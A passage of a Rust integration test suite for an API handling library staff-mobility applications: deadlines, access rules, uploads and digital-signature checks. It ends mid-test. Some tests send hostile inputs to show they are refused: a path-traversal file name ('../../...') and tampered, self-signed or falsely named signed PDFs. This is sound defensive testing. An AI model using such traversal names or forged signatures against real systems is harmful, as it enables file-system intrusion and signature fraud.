//! The call phase: applications, documents, two signatures, submission.

use mobility_tests::*;
use reqwest::Method;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

/// A plain PDF, as a scan would be.
pub fn scan_pdf(tag: &str) -> Vec<u8> {
    mobility_api::pdf::build(&[
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
        &format!("<< /Scan ({tag}) >>"),
    ])
}

/// The seeded call (open, deadline 2025-11-07), its mobilities, and a member library with its user.
pub struct Fixture {
    pub call_id: String,
    pub mobility_ids: Vec<String>,
    pub library_id: String,
    pub library: TestUser,
    pub coordinator: TestUser,
}

pub async fn fixture(app: &TestApp) -> Fixture {
    app.set_time("2025-11-03T10:00:00Z");
    let zsk = app.zsk_project().await;
    let pid = zsk["id"].as_str().unwrap();
    let calls: Value = app
        .get(&format!("/api/v1/projects/{pid}/calls"), None)
        .await
        .json()
        .await
        .unwrap();
    let call = &calls["items"][0];
    let library_id = app
        .create_org(
            &format!("Knjižnica {}", uuid::Uuid::now_v7().simple()),
            "member_library",
        )
        .await;
    Fixture {
        call_id: call["id"].as_str().unwrap().into(),
        mobility_ids: call["mobility_ids"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_string())
            .collect(),
        library: app.user("library", Some(&library_id)).await,
        library_id,
        coordinator: app.user("coordinator", None).await,
    }
}

pub fn body(mobility_id: &str, email: &str) -> Value {
    json!({
        "mobility_id": mobility_id,
        "applicant": {"full_name": "Maja Kovač", "email": email, "job_title": "bibliotekarka", "adult_education_role": "izobraževanje starejših", "years_in_adult_education": 7},
        "motivation": "Želim spoznati metodo DTFL in jo prenesti v našo knjižnico.",
        "expected_use": "Delavnice za starejše odrasle.",
        "language_skills": "angleščina B2",
        "fewer_opportunities": true,
        "fewer_opportunities_note": "Živi na oddaljenem območju."
    })
}

pub async fn create(app: &TestApp, f: &Fixture, token: &str, body: &Value) -> reqwest::Response {
    app.post(
        &format!("/api/v1/calls/{}/applications", f.call_id),
        Some(token),
        body,
    )
    .await
}

pub async fn draft(app: &TestApp, f: &Fixture) -> Value {
    let res = create(
        app,
        f,
        &f.library.token,
        &body(&f.mobility_ids[0], "maja@knjiznica.example"),
    )
    .await;
    assert_eq!(res.status(), 201);
    res.json().await.unwrap()
}

pub async fn upload(
    app: &TestApp,
    token: &str,
    app_id: &str,
    filename: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let form = Form::new().part(
        "file",
        Part::bytes(bytes)
            .file_name(filename.to_string())
            .mime_str("application/pdf")
            .unwrap(),
    );
    app.req(
        Method::POST,
        &format!("/api/v1/applications/{app_id}/documents"),
        Some(token),
    )
    .multipart(form)
    .send()
    .await
    .unwrap()
}

pub async fn sign(
    app: &TestApp,
    token: &str,
    app_id: &str,
    role: &str,
    method: &str,
    document_id: Option<&str>,
) -> reqwest::Response {
    sign_as(
        app,
        token,
        app_id,
        role,
        method,
        document_id,
        &format!("Podpisnik {role}"),
    )
    .await
}

/// [`sign`] naming the signer.
pub async fn sign_as(
    app: &TestApp,
    token: &str,
    app_id: &str,
    role: &str,
    method: &str,
    document_id: Option<&str>,
    signer_name: &str,
) -> reqwest::Response {
    app.post(
        &format!("/api/v1/applications/{app_id}/signatures"),
        Some(token),
        &json!({"signer_role": role, "method": method, "signer_name": signer_name, "signer_position": "direktorica", "document_id": document_id}),
    )
    .await
}

/// Upload one scan carrying both signatures and record them.
pub async fn sign_both(app: &TestApp, token: &str, app_id: &str) {
    let doc: Value = upload(app, token, app_id, "prijava.pdf", scan_pdf(app_id))
        .await
        .json()
        .await
        .unwrap();
    let doc_id = doc["id"].as_str().unwrap();
    for role in ["participant", "library_director"] {
        assert_eq!(
            sign(
                app,
                token,
                app_id,
                role,
                "scanned_handwritten",
                Some(doc_id)
            )
            .await
            .status(),
            201
        );
    }
}

async fn submit(app: &TestApp, token: &str, app_id: &str) -> reqwest::Response {
    app.post(
        &format!("/api/v1/applications/{app_id}/submit"),
        Some(token),
        &json!({}),
    )
    .await
}

#[tokio::test]
async fn a_library_fills_signs_and_submits_an_application_which_is_then_locked() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    assert_eq!(a["status"], "draft");
    assert_eq!(a["library_id"], f.library_id.as_str());
    assert_eq!(a["received_via"], "api");
    assert_eq!(a["content_sha256"].as_str().unwrap().len(), 64);
    assert!(a["fewer_opportunities"].as_bool().unwrap());
    assert!(
        a["fewer_opportunities_note"].is_null(),
        "the note is for coordinators only"
    );
    let id = a["id"].as_str().unwrap();
    sign_both(&app, &f.library.token, id).await;
    let res = submit(&app, &f.library.token, id).await;
    assert_eq!(res.status(), 200);
    let s: Value = res.json().await.unwrap();
    assert_eq!(s["status"], "submitted");
    assert_eq!(s["submitted_at"], "2025-11-03T10:00:00Z");
    let history: Vec<(Value, Value)> = s["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["from"].clone(), h["to"].clone()))
        .collect();
    assert_eq!(
        history,
        vec![
            (Value::Null, json!("draft")),
            (json!("draft"), json!("submitted"))
        ]
    );
    assert_eq!(s["history"][1]["actor_id"], f.library.id.as_str());

    let path = format!("/api/v1/applications/{id}");
    assert_problem(
        app.patch(
            &path,
            Some(&f.library.token),
            &json!({"motivation": "x"}),
            None,
        )
        .await,
        409,
        "application.locked",
    )
    .await;
    assert_problem(
        app.patch(
            &path,
            Some(&f.coordinator.token),
            &json!({"motivation": "x"}),
            None,
        )
        .await,
        409,
        "application.locked",
    )
    .await;
    assert_problem(
        app.delete(&path, Some(&f.library.token)).await,
        409,
        "application.locked",
    )
    .await;
    assert_problem(
        sign(
            &app,
            &f.library.token,
            id,
            "participant",
            "scanned_handwritten",
            None,
        )
        .await,
        409,
        "application.locked",
    )
    .await;
    assert_problem(
        submit(&app, &f.library.token, id).await,
        409,
        "application.locked",
    )
    .await;
    assert_problem(
        upload(&app, &f.library.token, id, "x.pdf", scan_pdf("late")).await,
        409,
        "application.locked",
    )
    .await;

    let admin = app.admin_token().await;
    let log: Value = app
        .get(
            &format!("/api/v1/audit-log?object_type=application&object_id={id}"),
            Some(&admin),
        )
        .await
        .json()
        .await
        .unwrap();
    let actions: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, vec!["submit", "sign", "sign", "create"]);
}

#[tokio::test]
async fn the_deadline_is_the_whole_day_in_ljubljana_and_not_a_second_more() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    sign_both(&app, &f.library.token, id).await;
    let other_lib = app.create_org("Knjižnica Pozna", "member_library").await;
    let late = app.user("library", Some(&other_lib)).await;
    let b: Value = create(
        &app,
        &f,
        &late.token,
        &body(&f.mobility_ids[0], "pozna@knjiznica.example"),
    )
    .await
    .json()
    .await
    .unwrap();
    let bid = b["id"].as_str().unwrap();
    sign_both(&app, &late.token, bid).await;

    // 23:59:59 on Friday 7 November 2025 in Ljubljana (CET, UTC+1).
    app.set_time("2025-11-07T22:59:59Z");
    let res = submit(&app, &f.library.token, id).await;
    assert_eq!(res.status(), 200);
    // One second later.
    app.set_time("2025-11-07T23:00:00Z");
    assert_problem(
        submit(&app, &late.token, bid).await,
        422,
        "application.deadline_passed",
    )
    .await;
    let third = app.create_org("Knjižnica Tretja", "member_library").await;
    let third = app.user("library", Some(&third)).await;
    assert_problem(
        create(
            &app,
            &f,
            &third.token,
            &body(&f.mobility_ids[1], "t@k.example"),
        )
        .await,
        422,
        "application.deadline_passed",
    )
    .await;
}

#[tokio::test]
async fn applications_received_by_email_count_from_when_they_arrived() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    app.set_time("2025-11-10T09:00:00Z");
    let mut b = body(&f.mobility_ids[1], "eposta@knjiznica.example");
    b["library_id"] = json!(f.library_id);
    b["received_via"] = json!("email");
    b["received_at"] = json!("2025-11-07T21:30:00Z");
    let res = create(&app, &f, &f.coordinator.token, &b).await;
    assert_eq!(res.status(), 201);
    let a: Value = res.json().await.unwrap();
    assert_eq!(a["received_via"], "email");
    assert_eq!(
        a["fewer_opportunities_note"], "Živi na oddaljenem območju.",
        "coordinators see the note"
    );
    let id = a["id"].as_str().unwrap();
    sign_both(&app, &f.coordinator.token, id).await;
    let s: Value = submit(&app, &f.coordinator.token, id)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(s["status"], "submitted");
    assert_eq!(s["submitted_at"], "2025-11-07T21:30:00Z");

    // Arrived after the deadline.
    let other = app.create_org("Knjižnica Eposta", "member_library").await;
    b["library_id"] = json!(other);
    b["received_at"] = json!("2025-11-08T07:00:00Z");
    assert_problem(
        create(&app, &f, &f.coordinator.token, &b).await,
        422,
        "application.deadline_passed",
    )
    .await;
    // Needs received_at; never in the future; only coordinators record e-mail receipt.
    b["received_at"] = Value::Null;
    let p = assert_problem(
        create(&app, &f, &f.coordinator.token, &b).await,
        422,
        "validation.failed",
    )
    .await;
    assert_eq!(problem_fields(&p), vec!["received_at"]);
    b["received_at"] = json!("2025-11-11T07:00:00Z");
    assert_problem(
        create(&app, &f, &f.coordinator.token, &b).await,
        422,
        "validation.failed",
    )
    .await;
    let mut own = body(&f.mobility_ids[0], "x@k.example");
    own["received_via"] = json!("email");
    own["received_at"] = json!("2025-11-01T07:00:00Z");
    assert_problem(
        create(&app, &f, &f.library.token, &own).await,
        403,
        "auth.forbidden",
    )
    .await;
}

#[tokio::test]
async fn only_an_open_call_takes_applications_and_submissions() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    sign_both(&app, &f.library.token, id).await;
    let res = app
        .post(
            &format!("/api/v1/calls/{}/close", f.call_id),
            Some(&f.coordinator.token),
            &json!({}),
        )
        .await;
    assert_eq!(res.status(), 200);
    assert_problem(
        submit(&app, &f.library.token, id).await,
        422,
        "application.call_not_open",
    )
    .await;
    assert_problem(
        create(
            &app,
            &f,
            &f.library.token,
            &body(&f.mobility_ids[1], "b@k.example"),
        )
        .await,
        422,
        "application.call_not_open",
    )
    .await;
}

#[tokio::test]
async fn one_application_per_member_library_per_mobility() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    assert_problem(
        create(
            &app,
            &f,
            &f.library.token,
            &body(&f.mobility_ids[0], "other@k.example"),
        )
        .await,
        409,
        "application.duplicate",
    )
    .await;
    // The other mobility is fine.
    assert_eq!(
        create(
            &app,
            &f,
            &f.library.token,
            &body(&f.mobility_ids[1], "other@k.example")
        )
        .await
        .status(),
        201
    );
    // A body that is sent but wrong is refused, and nothing is withdrawn.
    let withdraw_path = format!(
        "/api/v1/applications/{}/withdraw",
        a["id"].as_str().unwrap()
    );
    let p = assert_problem(
        app.post(
            &withdraw_path,
            Some(&f.library.token),
            &json!({"reasn": "tipkarska"}),
        )
        .await,
        400,
        "request.invalid_json",
    )
    .await;
    assert_eq!(problem_fields(&p), vec!["reasn"]);
    let res = app
        .req(
            reqwest::Method::POST,
            &withdraw_path,
            Some(&f.library.token),
        )
        .header("content-type", "text/plain")
        .body("bolezen")
        .send()
        .await
        .unwrap();
    assert_problem(res, 415, "request.unsupported_media_type").await;
    let still: Value = app
        .get(
            &format!("/api/v1/applications/{}", a["id"].as_str().unwrap()),
            Some(&f.library.token),
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(still["status"], "draft");
    // Withdrawing frees the place.
    let res = app
        .post(
            &format!(
                "/api/v1/applications/{}/withdraw",
                a["id"].as_str().unwrap()
            ),
            Some(&f.library.token),
            &json!({"reason": "bolezen"}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let w: Value = res.json().await.unwrap();
    assert_eq!(w["status"], "withdrawn");
    assert_eq!(w["withdrawal_reason"], "bolezen");
    assert_eq!(w["history"][1]["to"], "withdrawn");
    assert_eq!(
        create(
            &app,
            &f,
            &f.library.token,
            &body(&f.mobility_ids[0], "new@k.example")
        )
        .await
        .status(),
        201
    );
    assert_problem(
        app.post(
            &format!(
                "/api/v1/applications/{}/withdraw",
                a["id"].as_str().unwrap()
            ),
            Some(&f.library.token),
            &json!({}),
        )
        .await,
        409,
        "application.withdraw_not_allowed",
    )
    .await;
    // `null` is no body: read, not refused as JSON, and the rule answers.
    let res = app
        .req(
            reqwest::Method::POST,
            &withdraw_path,
            Some(&f.library.token),
        )
        .header("content-type", "application/json")
        .body("null")
        .send()
        .await
        .unwrap();
    assert_problem(res, 409, "application.withdraw_not_allowed").await;

    // Only member libraries, only the call's mobilities.
    let host = app.create_org("Gostitelj", "host").await;
    let mut b = body(&f.mobility_ids[0], "h@k.example");
    b["library_id"] = json!(host);
    assert_problem(
        create(&app, &f, &f.coordinator.token, &b).await,
        422,
        "application.not_member_library",
    )
    .await;
    let zsk = app.zsk_project().await;
    let m: Value = app
        .post(&format!("/api/v1/projects/{}/mobilities", zsk["id"].as_str().unwrap()), Some(&f.coordinator.token), &json!({"code": "JS9", "title": "Drugje", "activity_type": "job_shadowing", "host_organisation_id": host, "city": "Oslo", "country": "NO", "programme_days": 3, "travel_days": 2, "places": 5, "follow_up": "dtfl_workshop"}))
        .await
        .json()
        .await
        .unwrap();
    assert_problem(
        create(
            &app,
            &f,
            &f.library.token,
            &body(m["id"].as_str().unwrap(), "m@k.example"),
        )
        .await,
        422,
        "application.mobility_not_in_call",
    )
    .await;
}

#[tokio::test]
async fn twenty_simultaneous_creates_give_one_application() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let requests = (0..20).map(|i| {
        let b = body(&f.mobility_ids[0], &format!("race{i}@knjiznica.example"));
        let url = app.url(&format!("/api/v1/calls/{}/applications", f.call_id));
        let client = app.client.clone();
        let token = f.library.token.clone();
        async move {
            client
                .post(url)
                .bearer_auth(token)
                .json(&b)
                .send()
                .await
                .unwrap()
        }
    });
    let responses = futures_util::future::join_all(requests).await;
    let mut created = 0;
    for res in responses {
        match res.status().as_u16() {
            201 => created += 1,
            409 => {
                let p: Value = res.json().await.unwrap();
                assert_eq!(p["code"], "application.duplicate");
            }
            other => panic!("unexpected status {other}: {}", res.text().await.unwrap()),
        }
    }
    assert_eq!(created, 1);
    let list: Value = app
        .get(
            &format!("/api/v1/applications?library_id={}", f.library_id),
            Some(&f.coordinator.token),
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["total"], 1);
}

#[tokio::test]
async fn who_sees_which_application() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    let path = format!("/api/v1/applications/{id}");

    let other_lib = app.create_org("Knjižnica Druga", "member_library").await;
    let other = app.user("library", Some(&other_lib)).await;
    assert_problem(
        app.get(&path, Some(&other.token)).await,
        404,
        "application.not_found",
    )
    .await;
    let list: Value = app
        .get("/api/v1/applications", Some(&other.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["total"], 0);
    assert_problem(
        app.patch(&path, Some(&other.token), &json!({"motivation": "x"}), None)
            .await,
        404,
        "application.not_found",
    )
    .await;

    let committee = app.user("committee", None).await;
    assert_problem(
        app.get(&path, Some(&committee.token)).await,
        404,
        "application.not_found",
    )
    .await;
    let host_org = app.create_org("Host", "host").await;
    let host = app.user("host", Some(&host_org)).await;
    assert_problem(
        app.get(&path, Some(&host.token)).await,
        404,
        "application.not_found",
    )
    .await;
    assert_problem(
        app.get("/api/v1/applications", Some(&host.token)).await,
        403,
        "auth.forbidden",
    )
    .await;
    assert_problem(app.get(&path, None).await, 401, "auth.missing_token").await;

    // The participant the application names (by e-mail) sees it and signs as participant only.
    let admin = app.admin_token().await;
    let res = app.post("/api/v1/users", Some(&admin), &json!({"email": "maja@knjiznica.example", "full_name": "Maja Kovač", "role": "participant", "organisation_id": f.library_id, "password": PASSWORD})).await;
    assert_eq!(res.status(), 201);
    let maja = app.login("maja@knjiznica.example", PASSWORD).await;
    let seen: Value = app.get(&path, Some(&maja)).await.json().await.unwrap();
    assert!(seen["fewer_opportunities_note"].is_null());
    let unnamed = app.user("participant", Some(&f.library_id)).await;
    assert_problem(
        app.get(&path, Some(&unnamed.token)).await,
        404,
        "application.not_found",
    )
    .await;
    let doc: Value = upload(&app, &maja, id, "podpis.pdf", signed_pdf("Maja Kovač"))
        .await
        .json()
        .await
        .unwrap();
    let doc_id = doc["id"].as_str().unwrap();
    assert_eq!(
        sign_as(
            &app,
            &maja,
            id,
            "participant",
            "qualified_electronic",
            Some(doc_id),
            "Maja Kovac"
        )
        .await
        .status(),
        201
    );
    assert_problem(
        sign(
            &app,
            &maja,
            id,
            "library_director",
            "qualified_electronic",
            Some(doc_id),
        )
        .await,
        403,
        "auth.forbidden",
    )
    .await;
    assert_problem(
        app.patch(&path, Some(&maja), &json!({"motivation": "x"}), None)
            .await,
        403,
        "auth.forbidden",
    )
    .await;

    // Once submitted, the committee sees it, without the note.
    let doc: Value = upload(
        &app,
        &f.library.token,
        id,
        "direktor.pdf",
        scan_pdf("director"),
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(
        sign(
            &app,
            &f.library.token,
            id,
            "library_director",
            "scanned_handwritten",
            doc["id"].as_str()
        )
        .await
        .status(),
        201
    );
    assert_eq!(submit(&app, &f.library.token, id).await.status(), 200);
    let seen: Value = app
        .get(&path, Some(&committee.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(seen["status"], "submitted");
    assert!(seen["fewer_opportunities_note"].is_null());
    let list: Value = app
        .get("/api/v1/applications", Some(&committee.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["total"], 1);
    assert!(list["items"][0]["fewer_opportunities_note"].is_null());
    let seen: Value = app
        .get(&path, Some(&f.coordinator.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        seen["fewer_opportunities_note"],
        "Živi na oddaljenem območju."
    );
}

#[tokio::test]
async fn editing_changes_the_content_hash_and_voids_signatures() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    sign_both(&app, &f.library.token, id).await;
    let path = format!("/api/v1/applications/{id}");
    let etag = app
        .get(&path, Some(&f.library.token))
        .await
        .headers()
        .get("etag")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let res = app
        .patch(
            &path,
            Some(&f.library.token),
            &json!({"motivation": "Nova motivacija."}),
            Some(&etag),
        )
        .await;
    assert_eq!(res.status(), 200);
    let changed: Value = res.json().await.unwrap();
    assert_ne!(changed["content_sha256"], a["content_sha256"]);
    assert_problem(
        app.patch(
            &path,
            Some(&f.library.token),
            &json!({"motivation": "Spet."}),
            Some(&etag),
        )
        .await,
        412,
        "request.precondition_failed",
    )
    .await;

    let sigs: Value = app
        .get(&format!("{path}/signatures"), Some(&f.library.token))
        .await
        .json()
        .await
        .unwrap();
    let sigs = sigs["items"].as_array().unwrap();
    assert_eq!(sigs.len(), 2);
    assert!(sigs.iter().all(|s| s["status"] == "void"
        && s["voided_at"].is_string()
        && s["content_sha256"] == a["content_sha256"]));
    assert_problem(
        submit(&app, &f.library.token, id).await,
        422,
        "application.participant_signature_missing",
    )
    .await;

    // The same content again gives the same hash.
    let back: Value = app
        .patch(
            &path,
            Some(&f.library.token),
            &json!({"motivation": a["motivation"]}),
            None,
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(back["content_sha256"], a["content_sha256"]);
    // Changing nothing keeps everything.
    let same: Value = app
        .patch(
            &path,
            Some(&f.library.token),
            &json!({"motivation": a["motivation"]}),
            None,
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(same["updated_at"], back["updated_at"]);
}

#[tokio::test]
async fn submission_needs_both_signatures_each_with_its_own_code() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    assert_problem(
        submit(&app, &f.library.token, id).await,
        422,
        "application.participant_signature_missing",
    )
    .await;
    let doc: Value = upload(&app, &f.library.token, id, "scan.pdf", scan_pdf("p"))
        .await
        .json()
        .await
        .unwrap();
    let doc_id = doc["id"].as_str().unwrap();
    assert_eq!(
        sign(
            &app,
            &f.library.token,
            id,
            "participant",
            "scanned_handwritten",
            Some(doc_id)
        )
        .await
        .status(),
        201
    );
    assert_problem(
        submit(&app, &f.library.token, id).await,
        422,
        "application.director_signature_missing",
    )
    .await;
    assert_eq!(
        sign(
            &app,
            &f.library.token,
            id,
            "library_director",
            "scanned_handwritten",
            Some(doc_id)
        )
        .await
        .status(),
        201
    );
    assert_eq!(submit(&app, &f.library.token, id).await.status(), 200);
}

/// A digital signature stands for the person its verified certificate names, each signer
/// needs a signature of their own in the PDF, and a file changed after signing verifies for
/// nobody; `/Name` in the signature dictionary proves nothing.
#[tokio::test]
async fn a_digital_signature_is_the_signers_own() {
    use mobility_tests::signing::Key;
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    let t = &f.library.token;
    let qes = "qualified_electronic";

    // Only the participant signed this PDF; the director's signature cannot be hers.
    let petra: Value = upload(&app, t, id, "petra.pdf", signed_pdf("Petra Bizjak"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        petra["pdf_signatures"][0]["certificate_name"],
        "Petra Bizjak"
    );
    assert_eq!(petra["pdf_signatures"][0]["verified"], true);
    let p = assert_problem(
        sign_as(
            &app,
            t,
            id,
            "library_director",
            qes,
            petra["id"].as_str(),
            "Ana Novak",
        )
        .await,
        422,
        "signature.signer_mismatch",
    )
    .await;
    assert!(
        p["detail"]
            .as_str()
            .unwrap()
            .contains("Petra Bizjak (verified)")
    );
    let s: Value = sign_as(
        &app,
        t,
        id,
        "participant",
        qes,
        petra["id"].as_str(),
        "PETRA BIZJAK",
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(s["pdf_signer_name"], "Petra Bizjak");
    // Her one signature cannot stand for a second signer of the same name.
    assert_problem(
        sign_as(
            &app,
            t,
            id,
            "library_director",
            qes,
            petra["id"].as_str(),
            "Petra Bizjak",
        )
        .await,
        422,
        "signature.same_pdf_signature",
    )
    .await;

    // Signed by both, the second in an incremental update with an RSA key; names compared
    // without case, diacritics or titles.
    let both = signed_pdf_by(&[("Petra Bizjak", Key::P256), ("Ana Novák", Key::Rsa)]);
    let doc: Value = upload(&app, t, id, "oba.pdf", both.clone())
        .await
        .json()
        .await
        .unwrap();
    let checks = doc["pdf_signatures"].as_array().unwrap();
    assert_eq!(checks.len(), 2);
    assert!(checks.iter().all(|c| c["verified"] == true), "{checks:?}");
    let s: Value = sign_as(
        &app,
        t,
        id,
        "library_director",
        qes,
        doc["id"].as_str(),
        "mag. ana novak",
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(s["pdf_signer_name"], "Ana Novák");
    let listed: Value = app
        .get(&format!("/api/v1/applications/{id}/signatures"), Some(t))
        .await
        .json()
        .await
        .unwrap();
    let director = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["signer_role"] == "library_director" && s["status"] == "valid")
        .unwrap();
    assert_eq!(director["pdf_signer_name"], "Ana Novák");

    // The same file changed after signing (one byte of the first signer's /Name): the digest
    // over the signed ranges no longer matches, for either signature.
    let at = both
        .windows(b"(Petra Bizjak)".len())
        .position(|w| w == b"(Petra Bizjak)")
        .unwrap();
    let mut tampered = both;
    tampered[at + 1] = b'X';
    let doc: Value = upload(&app, t, id, "spremenjeno.pdf", tampered)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(doc["has_pdf_signature"], true);
    assert!(doc["pdf_signer_name"].is_null());
    for c in doc["pdf_signatures"].as_array().unwrap() {
        assert_eq!(c["verified"], false);
        assert_eq!(c["problem"], "digest_mismatch");
    }
    let p = assert_problem(
        sign_as(
            &app,
            t,
            id,
            "participant",
            qes,
            doc["id"].as_str(),
            "Petra Bizjak",
        )
        .await,
        422,
        "signature.signer_mismatch",
    )
    .await;
    assert!(p["detail"].as_str().unwrap().contains("digest_mismatch"));

    // Each of these counts for nobody: a /Name that names someone the certificate does not,
    // a certificate its holder issued, and content added after signing.
    use mobility_tests::signing::{Signer, append, sign_in_turn};
    let claims = sign_in_turn(&[Signer {
        certificate_name: "Petra Bizjak",
        claimed_name: "Ana Novak",
        key: Key::P256,
        self_signed: false,
    }]);
    let own = sign_in_turn(&[Signer {
        certificate_name: "Ana Novak",
        claimed_name: "Ana Novak",
        key: Key::P256,
        self_signed: true,
    }]);
    let mut added = signed_pdf("Ana Novak");
    append(
        &mut added,
        4,
        "<< /Type /Page /Note (a page added after signing) >>",
    );
    for (bytes, problem) in [
        (claims, None),
        (own, Some("self_signed")),
        (added, Some("not_whole_file")),
    ] {
        let d: Value = upload(&app, t, id, "x.pdf", bytes)
            .await
            .json()
            .await
            .unwrap();
        let check = &d["pdf_signatures"][0];
        match problem {
            None => {
                assert_eq!(check["certificate_name"], "Petra Bizjak");
                assert_eq!(check["certificate_issuer"], "Testni overitelj");
            }
            Some(p) => {
                assert_eq!(check["verified"], false);
                assert_eq!(check["problem"], p);
            }
        }
        assert_problem(
            sign_as(
                &app,
                t,
                id,
                "library_director",
                qes,
                d["id"].as_str(),
                "Ana Novak",
            )
            .await,
            422,
            "signature.signer_mismatch",
        )
        .await;
    }
}

#[tokio::test]
async fn signatures_need_the_right_document() {
    let app = spawn_app().await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    let t = &f.library.token;
    assert_problem(
        sign(&app, t, id, "participant", "scanned_handwritten", None).await,
        422,
        "signature.document_required",
    )
    .await;
    assert_problem(
        sign(&app, t, id, "participant", "qualified_electronic", None).await,
        422,
        "signature.document_required",
    )
    .await;
    let scan: Value = upload(&app, t, id, "scan.pdf", scan_pdf("x"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(scan["has_pdf_signature"], false);
    assert_problem(
        sign(
            &app,
            t,
            id,
            "participant",
            "qualified_electronic",
            scan["id"].as_str(),
        )
        .await,
        422,
        "signature.not_digitally_signed",
    )
    .await;
    let p = assert_problem(
        sign(
            &app,
            t,
            id,
            "participant",
            "scanned_handwritten",
            Some("0190f1c2-0000-7000-8000-000000000001"),
        )
        .await,
        422,
        "validation.failed",
    )
    .await;
    assert_eq!(problem_fields(&p), vec!["document_id"]);

    let signed: Value = upload(&app, t, id, "podpisano.pdf", signed_pdf("Ana Novak"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(signed["has_pdf_signature"], true);
    assert_eq!(signed["pdf_signer_name"], "Ana Novak");
    let res = sign_as(
        &app,
        t,
        id,
        "library_director",
        "qualified_electronic",
        signed["id"].as_str(),
        "dr. Ana Novak",
    )
    .await;
    assert_eq!(res.status(), 201);
    let s: Value = res.json().await.unwrap();
    assert_eq!(s["pdf_signer_name"], "Ana Novak");
    assert_eq!(s["recorded_by"], f.library.id.as_str());
    assert_eq!(s["content_sha256"], a["content_sha256"]);
    assert_eq!(s["status"], "valid");
    assert_eq!(s["signer_position"], "direktorica");

    // A second signature for the same role replaces the first.
    assert_eq!(
        sign(
            &app,
            t,
            id,
            "library_director",
            "scanned_handwritten",
            scan["id"].as_str()
        )
        .await
        .status(),
        201
    );
    let sigs: Value = app
        .get(&format!("/api/v1/applications/{id}/signatures"), Some(t))
        .await
        .json()
        .await
        .unwrap();
    let statuses: Vec<&str> = sigs["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, vec!["void", "valid"]);
    let future = app.post(&format!("/api/v1/applications/{id}/signatures"), Some(t), &json!({"signer_role": "participant", "method": "scanned_handwritten", "signer_name": "X", "document_id": scan["id"], "signed_at": "2030-01-01T00:00:00Z"})).await;
    assert_problem(future, 422, "validation.failed").await;
}

#[tokio::test]
async fn documents_are_pdfs_by_content_stored_once_and_served_to_who_may_see_them() {
    let app = spawn_app_with(|s| s.upload_max_bytes = 4096).await;
    let f = fixture(&app).await;
    let a = draft(&app, &f).await;
    let id = a["id"].as_str().unwrap();
    let t = &f.library.token;

    assert_problem(
        upload(&app, t, id, "slika.pdf", b"GIF89a not a pdf".to_vec()).await,
        415,
        "document.not_pdf",
    )
    .await;
    let mut big = scan_pdf("big");
    big.extend(vec![b' '; 5000]);
    assert_problem(
        upload(&app, t, id, "velika.pdf", big).await,
        413,
        "document.too_large",
    )
    .await;
    let res = app
        .req(
            Method::POST,
            &format!("/api/v1/applications/{id}/documents"),
            Some(t),
        )
        .header("content-type", "application/pdf")
        .body(scan_pdf("raw"))
        .send()
        .await
        .unwrap();
    assert_problem(res, 415, "request.unsupported_media_type").await;
    let form = Form::new().part("other", Part::bytes(scan_pdf("o")).file_name("o.pdf"));
    let res = app
        .req(
            Method::POST,
            &format!("/api/v1/applications/{id}/documents"),
            Some(t),
        )
        .multipart(form)
        .send()
        .await
        .unwrap();
    let p = assert_problem(res, 400, "request.invalid_multipart").await;
    assert!(p["detail"].as_str().unwrap().contains("`other`"));
    // An empty form.
    let form = Form::new();
    let res = app
        .req(
            Method::POST,
            &format!("/api/v1/applications/{id}/documents"),
            Some(t),
        )
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_problem(res, 400, "request.invalid_multipart").await;

    let res = upload(
        &app,
        t,
        id,
        "../../Prijava \"Čebelica\".pdf",
        scan_pdf("same"),
    )
    .await;
    assert_eq!(res.status(), 201);
    let d: Value = res.json().await.unwrap();
    assert_eq!(d["filename"], "Prijava _Čebelica_.pdf");
    assert_eq!(d["content_type"], "application/pdf");
    assert_eq!(d["size"], scan_pdf("same").len());
